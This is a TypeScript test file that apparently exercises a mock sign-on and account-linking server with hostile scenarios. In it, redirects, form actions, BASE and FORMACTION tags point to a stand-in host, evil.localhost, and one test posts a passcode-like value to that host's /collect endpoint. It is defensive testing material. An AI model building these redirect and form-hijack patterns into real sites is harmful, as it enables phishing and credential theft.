import { describe, expect, test } from 'vitest';
import { scenarios } from '../../src/practice/scenarios.ts';
import { open } from './courts.ts';
import { openSignOn, sendLogin, sendPasscode, sendReview, toReview } from './steps.ts';
import { between } from './visitor.ts';
import type { Reply, Visitor } from './visitor.ts';
import type { PracticeCourt } from '../../src/practice/court.ts';

const evil = (court: PracticeCourt): string => `http://evil.localhost:${new URL(court.address).port}`;

/** Does what a careful person would until a request of that kind was answered; gives the answer. */
async function reach(court: PracticeCourt, guest: Visitor, kind: string): Promise<Reply> {
  const get = (path: string): Promise<Reply> => guest.get(court.address + path);
  if (kind === 'landing') return get('/');
  if (kind === 'login.pl') return get('/cgi-bin/login.pl');
  const page = await openSignOn(court, guest);
  if (kind === 'sign-on-page') return page;
  const asks = await sendLogin(court, guest, page);
  if (kind === 'sign-on') return asks;
  const back = await sendPasscode(court, guest, asks);
  if (kind === 'passcode') return back;
  await get('/cgi-bin/login.pl');
  if (kind === 'utilities') return get('/cgi-bin/DisplayMenu.pl?Utilities');
  if (kind === 'link-page') return get('/cgi-bin/LinkAccount.pl');
  const review = await toReview(court, guest);
  return kind === 'link-form' ? review : sendReview(court, guest, review);
}

const of = (pattern: RegExp): { id: string; kind: string; status: number }[] =>
  scenarios.flatMap(({ id }) => {
    const kind = pattern.exec(id)?.at(-1);
    return kind === undefined ? [] : [{ id, kind, status: Number(/30[78]/.exec(id)?.[0] ?? 302) }];
  });

describe('a court that leads elsewhere', () => {
  const stages = of(/^attack-redirect-(.+)$/);

  test('there is such an attack at every stage', () => {
    expect(stages.map(({ kind }) => kind)).toEqual([
      'landing',
      'login.pl',
      'sign-on-page',
      'sign-on',
      'passcode',
      'utilities',
      'link-page',
      'link-form',
      'final-submit',
    ]);
  });

  test.each(stages)('$id', async ({ id, kind }) => {
    const { court, guest } = await open(id);
    const answer = await reach(court, guest, kind);
    expect({ status: answer.status, location: answer.location, links: court.links() }).toEqual({
      status: 302,
      location: `${evil(court)}/welcome?from=practice`,
      links: [],
    });
  });

  test('a partial request is led astray by a partial redirect', async () => {
    const { court, guest } = await open('attack-redirect-sign-on');
    const answer = await sendLogin(court, guest, await openSignOn(court, guest), true);
    expect(between(answer.text, '<redirect url="', '"')).toBe(`${evil(court)}/welcome?from=practice`);
  });

  test('the other host shows a sign-on page of its own and keeps what it gets', async () => {
    const { court, guest } = await open('success');
    const page = await guest.get(`${evil(court)}/welcome`);
    expect(page.text).toContain('name="loginForm:password"');
    await guest.post(`${evil(court)}/collect`, [['key', 'Old-Court-1999']]);
    expect(court.log.map(({ kind, host, method, entries }) => ({ kind, host, method, entries }))).toEqual([
      { kind: 'evil', host: 'evil.localhost', method: 'GET', entries: [] },
      { kind: 'evil', host: 'evil.localhost', method: 'POST', entries: [['key', 'Old-Court-1999']] },
    ]);
  });

  test('the sign-on page may be told to lead back elsewhere', async () => {
    const { court, guest } = await open('attack-appurl');
    const away = await guest.get(`${court.address}/cgi-bin/login.pl`);
    const page = await guest.get(away.location ?? '');
    const back = await sendPasscode(court, guest, await sendLogin(court, guest, page));
    expect(back.location).toBe(`${evil(court)}/cgi-bin/login.pl`);
  });
});

describe('a court that asks for a request to be repeated', () => {
  test.each(of(/^attack-30[78]-(?!evil)(.+)$/))(
    '$id, at the same address, once',
    async ({ id, kind, status }) => {
      const { court, guest } = await open(id);
      const answer = await reach(court, guest, kind);
      const asked = court.log.at(-1);
      expect({ status: answer.status, location: answer.location }).toEqual({
        status,
        location: `http://${asked?.host}:${new URL(court.address).port}${asked?.path}${asked?.query === '' ? '' : `?${asked?.query}`}`,
      });
      expect(court.links().length).toBe(kind === 'final-submit' ? 1 : 0);
    },
  );

  test.each(of(/^attack-30[78]-evil-(.+)$/))('$id, at another host', async ({ id, kind, status }) => {
    const { court, guest } = await open(id);
    const answer = await reach(court, guest, kind);
    expect({ status: answer.status, location: answer.location, links: court.links() }).toEqual({
      status,
      location: `${evil(court)}/collect`,
      links: [],
    });
  });
});

test.each(of(/^attack-scheme-(.+)$/))('$id: the same address, but for the scheme', async ({ id, kind }) => {
  const { court, guest } = await open(id);
  const answer = await reach(court, guest, kind);
  const asked = court.log.at(-1);
  expect(answer.location?.startsWith(`https://${asked?.host}:`)).toBe(true);
});

describe('forms that post to the wrong host', () => {
  const at = async (scenario: string, kind: string): Promise<{ court: PracticeCourt; page: Reply }> => {
    const { court, guest } = await open(scenario);
    return { court, page: await reach(court, guest, kind) };
  };

  test.each([
    ['attack-action-sign-on', 'sign-on-page', 'action="EVIL/csologin/login.jsf"'],
    ['attack-action-sign-on-court', 'sign-on-page', 'action="COURT/csologin/login.jsf"'],
    ['attack-action-passcode', 'sign-on', 'action="EVIL/csologin/login.jsf"'],
    ['attack-action-link-form', 'link-page', "action='EVIL/cgi-bin/LinkAccount.pl?"],
    ['attack-action-link-form-sign-on', 'link-page', "action='SIGNON/cgi-bin/LinkAccount.pl?"],
    ['attack-action-review', 'link-form', "action='EVIL/cgi-bin/LinkAccount.pl?"],
    ['attack-form-base', 'link-page', "<BASE HREF='EVIL/cgi-bin/'>"],
    ['attack-form-formaction', 'link-page', "FORMACTION='EVIL/collect'"],
    [
      'attack-form-nested',
      'link-page',
      "<FORM NAME=outer method=POST ENCTYPE='multipart/form-data' action='EVIL/collect'>",
    ],
    ['attack-review-formaction', 'link-form', "FORMACTION='EVIL/collect'"],
    ['attack-link-elsewhere', 'utilities', "<A HREF='EVIL/cgi-bin/LinkAccount.pl'>"],
    ['attack-sign-on-at-court', 'login.pl', 'name="loginForm:password"'],
    ['attack-link-form-at-sign-on', 'sign-on-page', 'NAME=key'],
  ])('%s at %s: %s', async (scenario, kind, words) => {
    const { court, page } = await at(scenario, kind);
    const expected = words
      .replace('EVIL', evil(court))
      .replace('COURT', court.address)
      .replace('SIGNON', court.signOn);
    expect(page.text).toContain(expected);
  });
});

describe('answers that are strange', () => {
  test('they can be too large, deep or empty', async () => {
    const sizes: number[] = [];
    for (const name of ['too-large', 'deep', 'empty']) {
      const { court, guest } = await open(`strange-${name}-landing`);
      sizes.push((await guest.get(`${court.address}/`)).text.length);
    }
    expect(sizes).toEqual([9 * 1024 * 1024, 1_100_030, 0]);
  });

  test('they can never come; closing the court ends the wait', async () => {
    const { court, guest } = await open('strange-never-answers-landing');
    const waiting = guest.get(`${court.address}/`).catch((error: unknown) => String(error));
    await expect.poll(() => court.log.length).toBe(1);
    await court.close();
    expect(await waiting).toBe('Error: socket hang up');
    expect(court.log[0]?.status).toBeNull();
  });

  test('a loop is a loop', async () => {
    const { court, guest } = await open('strange-loop-redirect');
    const page = await guest.get(`${court.address}/cgi-bin/login.pl`);
    expect(page.location).toBe(`${court.address}/cgi-bin/login.pl`);
  });
});
